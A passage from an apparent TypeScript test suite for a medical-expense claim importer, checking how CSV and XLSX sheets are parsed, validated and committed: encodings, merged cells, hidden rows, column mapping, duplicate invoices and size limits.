  for (const [input, field] of [[{ ...tester('active-second.xlsx'), sheet: '十一月' }, 'sheet'], [{ ...tester('fen-header.csv'), sheet: '十月' }, 'sheet'], [{ ...tester('active-second.xlsx'), sheet: '' }, 'sheet'], [{ ...tester('active-second.xlsx'), sheet: 'a/b' }, 'sheet']] as const) {
    const r = await s.dispatch('import.preview', input);
    assert.equal(r.ok, false, JSON.stringify(input.sheet));
    assert.equal((r as { error: { field: string } }).error.field, field);
  }
  const unknown = await s.dispatch('import.commit', { ...tester('active-second.xlsx'), sheet: '十一月', mapping: sept.mapping, category: 'trip' });
  assert.deepEqual([(unknown as { error: { reason: string } }).error.reason, (unknown as { error: { message: string } }).error.message.includes('没有名为“十一月”的工作表')], ['noSheet', true]);
  assert.equal(count(s, 'cases'), 1);
  s.close();
});

test('XLSX text from number cells is what the user sees: a zero-padded invoice number keeps its zeros; amounts and dates are read as before', async () => {
  const s = makeService();
  const p = await ok<ImportPreview>(s.dispatch('import.preview', tester('invoice-number.xlsx')));
  assert.deepEqual(p.sample.map((r) => r.values[7]), ['0001203456', '0000000012'], 'stored as "12"');
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '电话', '发票号码', '就诊日期', '医疗机构', '金额']);
  const rows: [string, number, string][] = [['"No."00000', 12, 'No.00012'], ['000-0000', 1234567, '123-4567'], ['#,##0', 1234, '1234'], ['0000000000', 98765, '0000098765']];
  rows.forEach(([fmt, n], i) => {
    const r = ws.addRow(['陈明', idNumber('35020319800101001'), 1380000000 + i, n, 20261001 + i, '厦门市中医院', 120 + i]);
    r.getCell(4).numFmt = fmt;
    r.getCell(5).numFmt = '00000000'; // a date typed as digits: read as written (20261001)
    r.getCell(7).numFmt = '00000'; // an amount padded for the eye: still 120 元
  });
  ws.getCell('C2').numFmt = '00000000000';
  const q = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'formats.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') }));
  assert.deepEqual(q.sample.map((r) => r.values[3]), rows.map(([, , shown]) => shown));
  assert.equal(q.accepted, 4, JSON.stringify(q.rejected));
  assert.equal(q.totalFen, (120 + 121 + 122 + 123) * 100);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'formats.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64'), mapping: q.mapping, category: 'trip' }));
  const c = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[0]!.number }));
  assert.deepEqual(c.case.expenses.map((e) => [e.invoiceNo, e.date, e.amountFen]), [['No.00012', '2026-10-01', 12000], ['123-4567', '2026-10-02', 12100], ['1234', '2026-10-03', 12200], ['0000098765', '2026-10-04', 12300]]);
  assert.equal(c.case.claimant.phone, '01380000000');
  s.close();
});

test('a title row above the header (CSV; XLSX merged or in A1 alone) is skipped and said so; row numbers stay the file\'s', async () => {
  const s = makeService();
  const csv = await ok<ImportPreview>(s.dispatch('import.preview', tester('title-row.csv')));
  assert.equal(csv.columns[0], '姓名');
  assert.equal(csv.skippedAbove, 1);
  assert.deepEqual([csv.accepted, csv.sample.map((r) => r.row)], [1, [3]]);
  const merged = await ok<ImportPreview>(s.dispatch('import.preview', tester('title-merged.xlsx')));
  assert.deepEqual([merged.skippedAbove, merged.columns[5], merged.accepted, merged.sample.map((r) => r.row)], [1, '金额', 3, [3, 4, 5]]);
  // A title in A1, a line of 制表单位/日期 (two cells naming fields, but not a header), a blank row, the header, a bad row.
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.getCell('A1').value = '2026年10月职工医疗费用报销明细';
  ws.getRow(2).values = ['制表单位：厦门航空有限公司', '', '', '', '制表日期：2026-10-31'];
  ws.getRow(4).values = ['姓名', '身份证号', '就诊日期', '医疗机构', '金额'];
  ws.getRow(5).values = ['陈明', idNumber('35020319800101001'), '2026-10-01', '厦门市中医院', '10'];
  ws.getRow(6).values = ['陈明', idNumber('35020319800101001'), '2026-10-32', '厦门市中医院', '20'];
  const x = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'title.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') }));
  assert.deepEqual([x.skippedAbove, x.headerRow, x.columns, x.accepted], [2, 4, ['姓名', '身份证号', '就诊日期', '医疗机构', '金额'], 1]);
  assert.deepEqual(x.rejected.map((r) => r.row), [6]);
  // Without a header that names fields, the first row with text is the header, as before.
  const odd = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('odd.csv', '人员,证件,时间', '周杰,x,2026-05-01')));
  assert.deepEqual([odd.skippedAbove, odd.columns[0]], [0, '人员']);
  s.close();
});

test('XLSX rows hidden in Excel (by hand, or filtered out by an AutoFilter) are neither previewed nor committed, and the preview says how many', async () => {
  const s = makeService();
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构', '金额']);
  ws.addRow(['陈明', idNumber('35020319800101001'), '2026-10-01', '厦门市中医院', '10']);
  ws.addRow(['林芳', idNumber('35020319850202002'), '2026-10-02', '厦门大学附属第一医院', '20']).hidden = true; // filtered out
  ws.addRow(['陈明', idNumber('35020319800101001'), '2026-10-03', '厦门市中医院', '30']);
  ws.addRow(['王强', idNumber('35020319900303003'), '2026-10-32', '厦门市中医院', '40']).hidden = true; // a bad row the user cannot see: not refused either
  ws.autoFilter = 'A1:E5';
  const file = { fileName: 'filtered.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
  const p = await ok<ImportPreview>(s.dispatch('import.preview', file));
  assert.deepEqual([p.skippedHidden, p.rows, p.accepted, p.claimants, p.totalFen, p.rejected.length], [2, 2, 2, 1, 4000, 0]);
  assert.deepEqual(p.sample.map((r) => r.row), [2, 4], 'row numbers stay the file\'s');
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...file, mapping: p.mapping, category: 'trip' }));
  assert.equal(r.cases.length, 1);
  const c = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[0]!.number }));
  assert.deepEqual([c.case.claimant.name, c.case.expenses.map((e) => e.amountFen)], ['陈明', [1000, 3000]]);
  // A CSV has no hidden rows.
  assert.equal((await ok<ImportPreview>(s.dispatch('import.preview', csvOf('plain.csv', '姓名,金额', '陈明,10')))).skippedHidden, 0);
  s.close();
});

test('CSV encoding: UTF-8 with one broken character stays UTF-8 and refuses that row; GBK stays GBK, also when some of its bytes are UTF-8 too or a BOM is put before it', async () => {
  const s = makeService();
  const p = await ok<ImportPreview>(s.dispatch('import.preview', tester('utf8-one-bad-byte.csv')));
  assert.equal(p.encoding, 'utf-8', 'the whole file was read as GBK: headers in mojibake');
  assert.equal(p.columns[0], '姓名');
  assert.equal(p.accepted, 1);
  assert.deepEqual(problemsOf(p), [[3, ['费用项目（E 列）含有无法识别的字符（文件编码损坏），请改正这一格或重新导出文件后再导入']]]);
  // 医院 and 住院 in GBK (d2bd d4ba, d7a1 d4ba) are valid UTF-8 (ҽԺ, סԺ): the file is GBK all the same.
  const text = '姓名,医院\r\n张伟,厦门市中医院\r\n李娜,住院\r\n';
  const gbk = iconv.encode(text, 'gbk');
  assert.equal(new TextDecoder().decode(iconv.encode('医院住院', 'gbk')), 'ҽԺסԺ');
  assert.deepEqual(decodeText(gbk), { text, encoding: 'gbk' });
  assert.deepEqual(decodeText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), gbk])), { text, encoding: 'gbk' });
  s.close();
});

test('a GBK CSV (Excel\'s "CSV" on a Chinese Windows) whose names and texts lost a character to ? is refused row by row, saying to save as CSV UTF-8 or XLSX; a ? in a UTF-8 file is what was typed', async () => {
  const s = makeService();
  const [a, b, c, d] = [idNumber('35020319850303111'), idNumber('35020319860404222'), idNumber('35020319870505333'), idNumber('35020319880606444')];
  // The tester's gbk_question_marks.csv: Excel (code page 936) writes ? for 𠮷 and the like, and
  // the file is valid GBK, so no U+FFFD says so. iconv-lite's GBK writes ? for 𠮷 just the same.
  const text = ['姓名,身份证号,就诊日期,医疗机构,金额,项目,发票号码',
    `王𠮷,${a},2024-07-01,厦门市中医院,10.00,门诊,`,
    `李?华,${b},2024-07-02,厦门长庚医院,20.00,?检查,`,
    `陈建国,${c},2024-07-03,厦门市第?医院,30.00,门诊,`,
    `林？,${d},2024-07-04,厦门市中医院,40.00,门诊,A?1`,
    `周明,${a.slice(0, 17)}?,2024-07-05,厦门市中医院,50.00,门诊,`,
    `陈建国,${c},2024-07-06,厦门市中医院,60.00,门诊,NO?7`].join('\r\n') + '\r\n';
  const gbk = iconv.encode(text, 'gbk');
  assert.ok(gbk.includes(Buffer.from('\xcd\xf5?,', 'latin1')), '王𠮷 is written 王? in GBK');
  const save = '请在 Excel 中把原表另存为“CSV UTF-8（逗号分隔）”或“Excel 工作簿（.xlsx）”后再导入';
  const lost = (where: string, cell: string) => `${where}“${cell}”中的问号可能是丢失的字：Excel 保存为“CSV”（GBK 编码）时，GBK 中没有的字（如 𠮷、䶮）会变成“?”。${save}`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'gbk_question_marks.csv', base64: gbk.toString('base64') }));
  assert.equal(p.encoding, 'gbk');
  assert.deepEqual(problemsOf(p), [
    [2, [lost('姓名（A 列）', '王?')]],
    [3, [lost('姓名（A 列）', '李?华'), lost('项目（F 列）', '?检查')]],
    [4, [lost('医疗机构（D 列）', '厦门市第?医院')]],
    [5, [lost('姓名（A 列）', '林？')]], // full-width too
    // An ID number's ? is the ID check's to refuse (not a lost Chinese character).
    [6, [p.rejected.find((r) => r.row === 6)!.problems[0]!.message['zh-CN']]],
  ]);
  assert.match(p.rejected.find((r) => r.row === 6)!.problems[0]!.message['zh-CN'], /^身份证号“/);
  // An invoice number's ? (row 7) is not a lost character: that row is accepted.
  assert.equal(p.accepted, 1);
  // Bytes that are no GBK character (U+FFFD after decoding) in a GBK file: the same advice.
  const broken = Buffer.concat([iconv.encode(`姓名,身份证号,就诊日期,医疗机构,金额\r\n王明,${a},2024-07-01,厦门市`, 'gbk'), Buffer.from([0xff]), iconv.encode('医院,10.00\r\n', 'gbk')]);
  const q = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'broken.csv', base64: broken.toString('base64') }));
  assert.equal(q.encoding, 'gbk');
  assert.deepEqual(problemsOf(q), [[2, [`医疗机构（D 列）含有无法识别的字符（文件按 GBK 读取，编码损坏）：${save}`]]]);
  // The same sheet saved as CSV UTF-8: nothing was lost, 𠮷 is there, and a ? typed in a name
  // or an item stays (李?华 is what the file says). Only row 6's ID number is refused.
  const utf8 = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'utf8.csv', base64: Buffer.from(text).toString('base64') }));
  assert.equal(utf8.encoding, 'utf-8');
  assert.deepEqual(utf8.rejected.map((r) => r.row), [6]);
  assert.equal(utf8.accepted, 5);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'utf8.csv', base64: Buffer.from(text).toString('base64'), mapping: utf8.mapping, category: 'outage', skipRejected: true }));
  assert.deepEqual(r.cases.map((x) => x.claimant).sort(), ['李?华', '林？', '王𠮷', '陈建国'].sort());
  s.close();
});

test('a mapping is remembered for the same header as written: 金额（合计） and 金额（自付） are two columns, swapped in the next file; memory never takes 自付 as the amount nor 出生日期 as the date', async () => {
  const s = makeService();
  const a = csvOf('a.csv', '姓名,身份证号,就诊日期,医疗机构,金额（合计）,金额（自付）', `钱一,${idNumber('35020619700101011')},2026-09-01,厦门市第三医院,500.00,50.00`);
  await ok<ImportResult>(s.dispatch('import.commit', { ...a, mapping: { name: 0, idNumber: 1, date: 2, institution: 3, amount: 4 }, category: 'outage' }));
  // The same two columns in the other order: another header, so the guess (the total), not the memory.
  const b = csvOf('b.csv', '姓名,身份证号,就诊日期,医疗机构,金额（自付）,金额（合计）', `钱二,${idNumber('35020619700101012')},2026-09-02,厦门市第三医院,80.00,800.00`);
  const p = await ok<ImportPreview>(s.dispatch('import.preview', b));
  assert.equal(p.columns[p.mapping.amount!], '金额（合计）', 'the self-paid 80.00 was read as the amount');
  assert.equal(p.totalFen, 80000);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...b, mapping: p.mapping, category: 'outage' }));
  const c = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[0]!.number }));
  assert.deepEqual(c.case.expenses.map((e) => e.amountFen), [80000]);
  // The first header written with half-width brackets and a space is still that header.
  const a2 = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('a2.csv', '姓名,身份证号,就诊日期,医疗机构,金额(合计),金额 (自付)', `钱三,${idNumber('35020619700101013')},2026-09-03,厦门市第三医院,300.00,30.00`)));
  assert.deepEqual([a2.mappingSource, a2.totalFen], ['remembered', 30000]);
  // A mapping set by hand to a birth date and a self-paid part is remembered, but not taken
  // from memory for those fields: the user is asked to choose them again.
  const odd = csvOf('odd.csv', '人员,出生日期,看病地点,个人自付,费用总额', '周杰,1970-01-01,厦门市海沧医院,10.00,100.00');
  await ok<ImportPreview>(s.dispatch('import.preview', { ...odd, mapping: { name: 0, date: 1, institution: 2, amount: 3 }, remember: true }));
  const again = await ok<ImportPreview>(s.dispatch('import.preview', odd));
  assert.equal(again.mappingSource, 'remembered');
  assert.deepEqual(again.mapping, { name: 0, institution: 2 });
  assert.deepEqual(again.missing, ['date', 'amount']);
  // A mapping an earlier version remembered (brackets dropped from the key) is still read for a header with no brackets.
  s.db.prepare(`INSERT INTO settings (key, value) VALUES (?, ?)`).run('import.mapping:人员|证件|时间|看病地点|花费', JSON.stringify({ name: 0, idNumber: 1, date: 2, institution: 3, amount: 4 }));
  const legacy = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('l.csv', '人员,证件,时间,看病地点,花费', `周杰,${idNumber('35020619700101014')},2026-09-04,厦门市海沧医院,10.00`)));
  assert.deepEqual([legacy.mappingSource, legacy.accepted], ['remembered', 1]);
  s.close();
});

test('a CSV cell opened with a quote that is never closed ("针灸): the file is refused naming the row, not read with the rows after it swallowed into that cell', async () => {
  const s = makeService();
  const rows = [0, 1, 2, 3, 4, 5].map((i) => `吴${i},${idNumber(`35020519660101${String(i + 1).padStart(3, '0')}`)},2026-10-0${i + 1},厦门市海沧医院,${i === 2 ? '"针灸' : '针灸'},1${i}.00`);
  const broken = csvOf('quote.csv', '姓名,身份证号,就诊日期,医疗机构,项目,金额', ...rows);
  const p = await s.dispatch('import.preview', broken);
  assert.equal(p.ok, false, 'rows 5–7 vanished: rows 3, accepted 2');
  const error = (p as { error: { code: string; field: string; reason: string; file: string; row: number; message: string } }).error;
  assert.deepEqual([error.code, error.field, error.reason, error.file, error.row], ['invalid_request', 'base64', 'brokenQuotes', 'quote.csv', 4]);
  assert.match(error.message, /row 4: a quoted cell is not closed \("针灸,12\.00…\)/);
  const c = await s.dispatch('import.commit', { ...broken, mapping: { name: 0, idNumber: 1, date: 2, institution: 3, item: 4, amount: 5 }, category: 'outage', skipRejected: true });
  assert.equal((c as { error: { reason: string } }).error.reason, 'brokenQuotes');
  assert.equal(count(s, 'cases'), 0);
  // A quote closed badly ("针灸"x) runs into the next rows too, up to the next quote: refused the same.
  const bad = csvOf('bad.csv', '姓名,日期,医疗机构,项目,金额', '吴一,2026-10-01,厦门市海沧医院,"针灸"x,10', '吴二,2026-10-02,厦门市海沧医院,"推拿",20');
  assert.equal(((await s.dispatch('import.preview', bad)) as { error: { row: number } }).error.row, 2);
  // Quotes as Excel writes them — a quoted cell with a comma, a line break or "" inside — and a quote inside a cell (5'11") are read as before.
  const fine = csvOf('fine.csv', '姓名,日期,医疗机构,项目,金额', '吴一,2026-10-01,"厦门市海沧医院,门诊","针灸""A""",10', '吴二,2026-10-02,厦门市海沧医院,"推拿\n理疗",20', '吴三,2026-10-03,厦门市海沧医院,护膝 5\'11",30');
  const f = await ok<ImportPreview>(s.dispatch('import.preview', fine));
  assert.deepEqual([f.rows, f.accepted, f.sample.map((r) => r.values[3])], [3, 3, ['针灸"A"', '推拿\n理疗', '护膝 5\'11"']]);
  s.close();
});

test('an XLSX amount merged over two rows (one invoice total beside its item rows) is counted once, on the first row, said in a notice; a merged name and ID number fill down', async () => {
  const s = makeService();
  const zheng = idNumber('35020619720101031');
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构', '项目', '金额']);
  ws.addRow(['郑一', zheng, '2026-10-08', '厦门市仙岳医院', '挂号', 300]);
  ws.addRow([null, null, '2026-10-09', '厦门市仙岳医院', '检查', null]);
  ws.addRow(['郑二', idNumber('35020619720101032'), '2026-10-09', '厦门市仙岳医院', '检查', 50]);
  ws.mergeCells('A2:A3');
  ws.mergeCells('B2:B3');
  ws.mergeCells('F2:F3');
  const file = { fileName: 'merged.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
  const p = await ok<ImportPreview>(s.dispatch('import.preview', file));
  assert.equal(p.totalFen, 35000, '300.00 was counted on both rows: 650.00');
  assert.equal(p.accepted, 2);
  assert.deepEqual(p.notices.map((n) => [n.row, n.message['zh-CN']]), [[2, '金额 300 是合并单元格 F2:F3（2 行）的金额：只计入这一行，不按行重复计入']]);
  assert.deepEqual(problemsOf(p), [[3, ['金额在合并单元格 F2:F3 中，已计入第 2 行：这一行没有自己的金额，不重复计入']]], 'the name and ID number merged over the rows are filled down: no other problem');
  assert.match(p.rejected[0]!.problems[0]!.message.en, /merged cell F2:F3, counted once on row 2/);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...file, mapping: p.mapping, category: 'outage', skipRejected: true }));
  const c = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases.find((x) => x.claimant === '郑一')!.number }));
  assert.deepEqual([c.case.claimant.idNumber, c.case.expenses.map((e) => [e.item, e.amountFen])], [zheng, [['挂号', 30000]]]);
  // A merge across columns within one row repeats nothing: read as before.
  const wide = new ExcelJS.Workbook();
  const w = wide.addWorksheet('明细');
  w.addRow(['姓名', '就诊日期', '医疗机构', '金额', '备注']);
  w.addRow(['郑三', '2026-10-08', '厦门市仙岳医院', 120, null]);
  w.mergeCells('D2:E2');
  const q = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'wide.xlsx', base64: Buffer.from(await wide.xlsx.writeBuffer()).toString('base64') }));
  assert.deepEqual([q.accepted, q.totalFen, q.notices], [1, 12000, []]);
  s.close();
});

test('case.duplicateInvoice: import.commit looks for the invoices already held under its write lock — a `claimdesk import` of the same invoice committed after the sheet was read is seen, not duplicated', async () => {
  const dataDir = tempDir();
  const web = makeService({ dataDir });
  const cli = makeService({ dataDir }); // another process on the same data directory (the CLI)
  const id = idNumber('35021319750101001');
  const sheet = csvOf('race.csv', '姓名,身份证号,就诊日期,医疗机构,金额,发票代码,发票号码',
    `竞一,${id},2026-10-01,厦门市海沧医院,1.00,35020126,4000000001`,
    `竞一,${id},2026-10-02,厦门市海沧医院,2.00,35020126,4000000002`);
  const caseFile = { format: 'claimdesk/case@1' as const, category: 'outage' as const, claimant: { name: '竞一', idNumber: id },
    expenses: [{ invoiceCode: '35020126', invoiceNo: '4000000001', date: '2026-10-01', institution: '厦门市海沧医院', kind: 'outpatient' as const, amountFen: 100 }] };
  // The CLI's case commits at the last moment before the commit opens its write transaction,
  // after the sheet was read and mapped (deterministically: when the commit asks for it).
  let cliCase: string | undefined;
  const transaction = web.db.transaction.bind(web.db);
  web.db.transaction = ((fn: Parameters<typeof transaction>[0]) => {
    cliCase ??= insertCase(cli, { caseFile, files: [], source: 'r00001.json' });
    return transaction(fn);
  }) as typeof web.db.transaction;
  const r = await ok<ImportResult>(web.dispatch('import.commit', { ...sheet, mapping: { name: 0, idNumber: 1, date: 2, institution: 3, amount: 4, invoiceCode: 5, invoiceNo: 6 }, category: 'outage', skipRejected: true }));
  assert.ok(cliCase);
  assert.equal(r.imported, 1);
  assert.deepEqual(r.skipped.map((x) => [x.row, x.problems[0]!.message['zh-CN']]), [[2, `这张发票已在案件 ${cliCase} 中`]]);
  const verify = verifyData(cli);
  assert.deepEqual(verify.duplicateInvoices, [], verify.messages.join('\n'));
  assert.equal(verify.ok, true);
  web.close();
  cli.close();
});

test('a case holds at most MAX_EXPENSES lines (the case file\'s limit): a claimant with more rows, or a case the sheet would take over it, is refused naming the counts, at preview and commit', async () => {
  const s = makeService();
  const chu = idNumber('35021119850505078');
  const many = (n: number, from = 0) => Array.from({ length: n }, (_, i) => `褚二,${chu},2026-10-01,厦门市海沧医院,${from + i + 1}.00`);
  const header = '姓名,身份证号,就诊日期,医疗机构,金额';
  const over = csvOf('lines.csv', header, ...many(MAX_EXPENSES + 1), `林三,${idNumber('35021119850505079')},2026-10-02,厦门市海沧医院,5.00`);
  const p = await ok<ImportPreview>(s.dispatch('import.preview', over));
  assert.deepEqual([p.rows, p.accepted, p.claimants, p.rejected.length], [MAX_EXPENSES + 2, 1, 1, MAX_EXPENSES + 1], '褚二\'s 20,001 lines were accepted into one case');
  assert.equal(p.rejected[0]!.problems[0]!.message['zh-CN'], `“褚二”在表中有 ${MAX_EXPENSES + 1} 行费用，超过一个案件最多 ${MAX_EXPENSES} 行：请把这些行分成几个表格，分别导入`);
  const mapping = { name: 0, idNumber: 1, date: 2, institution: 3, amount: 4 };
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...over, mapping, category: 'outage', skipRejected: true }));
  assert.deepEqual(r.cases.map((c) => [c.claimant, c.lines]), [['林三', 1]]);
  assert.equal(r.skipped.length, MAX_EXPENSES + 1);
  // Into an existing case with 2 lines: exactly up to the limit is fine; one row more is refused.
  const c = await ok<CaseRecord>(s.dispatch('cases.create', { category: 'trip', claimant: { name: '褚二', idNumber: chu } }));
  await ok<ImportResult>(s.dispatch('import.commit', { ...csvOf('two.csv', header, ...many(2, 100000)), mapping, number: c.number }));
  const fits = await ok<ImportPreview>(s.dispatch('import.preview', { ...csvOf('fits.csv', header, ...many(MAX_EXPENSES - 2)), number: c.number }));
  assert.deepEqual([fits.accepted, fits.rejected.length], [MAX_EXPENSES - 2, 0]);
  const more = csvOf('more.csv', header, ...many(MAX_EXPENSES - 1));
  const q = await ok<ImportPreview>(s.dispatch('import.preview', { ...more, number: c.number }));
  assert.deepEqual([q.accepted, q.rejected.length], [0, MAX_EXPENSES - 1]);
  assert.equal(q.rejected[0]!.problems[0]!.message.en, `case ${c.number} has 2 expense lines; the sheet's ${MAX_EXPENSES - 1} more would exceed the ${MAX_EXPENSES} a case can hold: import fewer rows, or the rest into another case`);
  const refused = await s.dispatch('import.commit', { ...more, mapping, number: c.number, skipRejected: true });
  assert.equal((refused as { error: { code: string } }).error.code, 'conflict');
  assert.equal((await ok<CaseRecord>(s.dispatch('cases.get', { number: c.number }))).case.expenses.length, 2);
  s.close();
});

test('an amount larger than one line may hold (100000000001, 123,456,789,012.50) is refused as too large, naming the bound, not as malformed; the bound itself is read', async () => {
  const s = makeService();
  const p = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('big.csv', '姓名,就诊日期,医疗机构,金额',
    '孙二,2026-09-01,厦门市第三医院,100000000001', '孙三,2026-09-01,厦门市第三医院,"123,456,789,012.50"', '孙四,2026-09-01,厦门市第三医院,100000000000.00', '孙五,2026-09-01,厦门市第三医院,12.345')));
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems[0]!.message['zh-CN'], r.problems[0]!.message.en]), [
    [2, '金额“100000000001”太大：一行费用最多 100,000,000,000.00 元', 'amount "100000000001" is too large: one expense line is at most 100,000,000,000.00 yuan'],
    [3, '金额“123,456,789,012.50”太大：一行费用最多 100,000,000,000.00 元', 'amount "123,456,789,012.50" is too large: one expense line is at most 100,000,000,000.00 yuan'],
    [5, '金额“12.345”应以元为单位、最多两位小数', 'amount "12.345" must be in yuan with at most two decimals'],
  ]);
  assert.equal(p.totalFen, MAX_AMOUNT_FEN, 'the largest amount the case file allows is imported');
  s.close();
});

test('CSV lines ending in extra delimiters (张三,…,10.00, and ,, under a 5-column header, as HIS/HR scripts write them) are read; text past the header is still refused', async () => {
  const s = makeService();
  const p = await ok<ImportPreview>(s.dispatch('import.preview', tester('trailing-commas.csv')));
  assert.deepEqual(p.columns, ['姓名', '身份证号', '就诊日期', '医疗机构', '金额']);
  assert.deepEqual(p.rejected, [], 'every row was refused as 该行有 6 列，表头只有 5 列');
  assert.deepEqual([p.accepted, p.totalFen], [2, 3000]);
  assert.deepEqual(p.sample.map((r) => r.values.length), [5, 5]);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...tester('trailing-commas.csv'), mapping: p.mapping, category: 'outage' }));
  assert.deepEqual(r.cases.map((c) => [c.claimant, c.lines]), [['张三', 1], ['王五', 1]]);
  // A cell with text past the header (here before empty ones) is not dropped: the row is refused, counting the columns the user sees.
  const id = idNumber('35020319800101001');
  const text = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('text.csv', '姓名,身份证号,就诊日期,医疗机构,金额', `陈明,${id},2024-07-01,厦门市中医院,10.00,,`, `陈明,${id},2024-07-02,厦门市中医院,1,234.50,,`, `陈明,${id},2024-07-03,厦门市中医院,30.00, ,备注,,`)));
  assert.deepEqual(text.rejected.map((x) => [x.row, x.problems.map((q) => q.message['zh-CN'])]), [[3, ['该行有 6 列，表头只有 5 列']], [4, ['该行有 7 列，表头只有 5 列']]]);
  assert.equal(text.accepted, 1);
  s.close();
});

test('a wide sheet (one column per fee item): the amount in column 1101 of a CSV, or XFD of an XLSX, is guessed by the preview and accepted by the commit; a CSV naming a column past 16384 is refused as a file', async () => {
  const s = makeService();
  const id = idNumber('35020319800101001');
  const wide = (width: number, at: number, tail = '', [who, whose] = ['张三', id]) => {
    const header = Array.from({ length: width }, (_, i) => `c${i}`);
    const row = Array<string>(width).fill('');
    [header[0], header[1], header[2], header[3], header[at]] = ['姓名', '身份证号', '就诊日期', '医疗机构', '金额'];
    [row[0], row[1], row[2], row[3], row[at]] = [who, whose, '2024-07-01', '厦门市中医院', '10.00'];
    return csvOf(`wide${width}.csv`, header.join(',') + tail, row.join(',') + tail);
  };
  const csv = wide(1200, 1100);
  const p = await ok<ImportPreview>(s.dispatch('import.preview', csv));
  assert.deepEqual([p.mapping, p.missing, p.accepted], [{ name: 0, idNumber: 1, date: 2, institution: 3, amount: 1100 }, [], 1]);
  // The user touched the mapping step: the same mapping given back, then confirmed.
  const given = await ok<ImportPreview>(s.dispatch('import.preview', { ...csv, mapping: p.mapping }));
  assert.equal(given.accepted, 1);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...csv, mapping: p.mapping, category: 'outage' }));
  assert.equal(r.imported, 1, 'refused: mapping.amount: Too big: expected number to be <=1000');
  // The last column Excel has (XFD, index 16383): in a workbook, and in a CSV whose lines end in delimiters past it.
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构']);
  ws.addRow(['李四', idNumber('35020319900505246'), '2024-07-02', '厦门长庚医院']);
  ws.getCell(1, 16384).value = '金额';
  ws.getCell(2, 16384).value = 20;
  const xlsx = { fileName: 'xfd.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
  for (const f of [xlsx, wide(16384, 16383, ',,,', ['王五', idNumber('35020619751212031')])]) {
    const q = await ok<ImportPreview>(s.dispatch('import.preview', f));
    assert.deepEqual([q.columns.length, q.mapping.amount, q.accepted], [16384, 16383, 1], `${f.fileName}: ${JSON.stringify(q.rejected)}`);
    const done = await ok<ImportResult>(s.dispatch('import.commit', { ...f, mapping: q.mapping, category: 'outage' }));
    assert.equal(done.imported, 1, f.fileName);
  }
  // A header naming column 16385: no mapping could name it, so the file is refused up front, naming the reason and row.
  const over = await s.dispatch('import.preview', wide(16385, 16384));
  assert.deepEqual([(over as { error: { reason: string; row: number } }).error.reason, (over as { error: { row: number } }).error.row], ['tooWide', 1]);
  const beyond = await s.dispatch('import.commit', { ...csv, mapping: { ...p.mapping, amount: 16384 }, category: 'outage' });
  assert.equal((beyond as { error: { field: string } }).error.field, 'mapping.amount');
  s.close();
});

test('a 制表单位：… / 填报日期：… line above a narrow table (4–5 columns; CSV and XLSX) is a title, not the header; headers with a colon in brackets or before a unit are still headers', async () => {
  const s = makeService();
  for (const [name, columns, accepted] of [
    ['title-two-cells.csv', ['姓名', '就诊日期', '医疗机构', '金额'], 2],
    ['title-two-cells.xlsx', ['姓名', '就诊日期', '医疗机构', '金额'], 1],
    ['title-three-cells.csv', ['姓名', '身份证号', '就诊日期', '医疗机构', '金额'], 1],
  ] as const) {
    const t = makeService(); // each file in a fresh data dir: the CSV and XLSX hold the same row
    const p = await ok<ImportPreview>(t.dispatch('import.preview', tester(name)));
    assert.deepEqual([p.headerRow, p.skippedAbove, p.columns], [2, 1, columns], `${name}: the title line was the header`);
    assert.deepEqual([p.missing, p.mappingSource, p.accepted, p.rejected], [[], 'guessed', accepted, []], name);
    assert.deepEqual(Object.keys(p.mapping).sort(), (columns.length === 5 ? ['amount', 'date', 'idNumber', 'institution', 'name'] : ['amount', 'date', 'institution', 'name']), name);
    const r = await ok<ImportResult>(t.dispatch('import.commit', { ...tester(name), mapping: p.mapping, category: 'outage' }));
    assert.equal(r.imported, accepted, name);
    t.close();
  }
  // Next month's file has another date in its title line: the mapping is remembered by the real header.
  const aug = await ok<ImportPreview>(s.dispatch('import.preview', { ...tester('title-two-cells.csv'), mapping: { name: 0, date: 1, institution: 2, amount: 3 }, remember: true }));
  assert.equal(aug.accepted, 2);
